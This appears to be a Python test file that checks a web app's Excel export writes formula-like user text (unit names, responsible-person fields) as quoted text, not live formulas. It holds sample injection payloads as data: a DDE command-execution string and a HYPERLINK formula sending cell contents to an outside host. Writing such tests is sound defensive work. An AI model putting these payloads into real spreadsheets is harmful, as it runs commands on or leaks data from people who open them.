"""Excel exports write user text as text: a unit name or a 第一责任人 that looks like a formula
comes back from the file as the same text, never as a formula."""

from __future__ import annotations

import zipfile
from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from tests.helpers import login
from webapp.database import local_today
from webapp.org.models import Unit
from webapp.spreadsheets import append_row, to_bytes

HYPERLINK = '=HYPERLINK("http://x/?"&B3,"点击")'
DDE = "=cmd|' /C calc'!A0"


def _cells(data: bytes) -> dict[str, tuple[str, bool]]:
    """{text: (data type, quote prefix)} of every string cell, read back with openpyxl."""
    ws = load_workbook(BytesIO(data)).active
    return {c.value: (c.data_type, c.quotePrefix) for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    return [part.split("</f>")[0] for part in sheet.split("<f>")[1:]]


@pytest.mark.parametrize("group", ["unit", "first_responsible"])
def test_the_statistics_export_writes_formula_like_names_as_text(
        app, client, admin, office, make_item, group):
    login(client, admin)
    resp = client.post("/admin/units/", data={"code": "EVIL", "name": DDE, "kind": "other"})
    assert resp.status_code == 302
    with app.app_context():
        from webapp.extensions import db

        unit_id = db.session.scalar(select(Unit.id).where(Unit.code == "EVIL"))
        today = local_today()
    make_item("in_progress", lead_unit_id=unit_id, first_responsible=HYPERLINK,
              due_date=today + timedelta(days=1))
    login(client, office)
    period = f"start={today.isoformat()}&end={(today + timedelta(days=5)).isoformat()}"
    resp = client.get(f"/statistics/export.xlsx?period=custom&{period}&group={group}")
    assert resp.status_code == 200
    name = DDE if group == "unit" else HYPERLINK
    assert _cells(resp.data)[name] == ("s", True)
    assert _formulas(resp.data) == []


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "+1+1", "-2", "@SUM(A1:A2)", "\t=1+1",
                                  "\r=1+1", "=1+1"])
def test_append_row_keeps_formula_like_text_as_typed(text):
    wb = Workbook()
    append_row(wb.active, [text, "城关派出所", 3, -2.5, None])
    data = to_bytes(wb)
    cells = _cells(data)
    assert cells[text] == ("s", True)
    assert cells["城关派出所"] == ("s", False)
    row = next(load_workbook(BytesIO(data)).active.iter_rows(values_only=True))
    assert row == (text, "城关派出所", 3, -2.5)  # numbers stay numbers
    assert _formulas(data) == []
